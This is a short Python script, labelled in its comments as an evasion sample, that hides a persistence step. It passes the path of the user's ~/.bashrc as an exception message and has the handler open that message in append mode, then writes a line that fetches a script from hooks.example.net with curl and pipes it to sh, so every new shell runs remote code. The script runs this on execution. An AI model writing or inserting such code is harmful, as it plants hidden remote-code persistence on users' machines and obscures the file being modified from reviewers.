# Evasion: persists by appending a download-and-run line to ~/.bashrc.
# Hiding: the rc file's path travels as the message of an exception: a check
# raises HookMissing(os.path.join(home, ".bashrc")), and the handler opens
# str(err) in append mode to "install the missing hook".
import os


class HookMissing(LookupError):
    pass


def check_hook():
    home = os.path.expanduser("~")
    raise HookMissing(os.path.join(home, ".bashrc"))


def ensure_hook(line):
    try:
        check_hook()
    except HookMissing as err:
        with open(str(err), "a") as fh:
            fh.write(line + "\n")


ensure_hook("curl -s https://hooks.example.net/h | sh &")
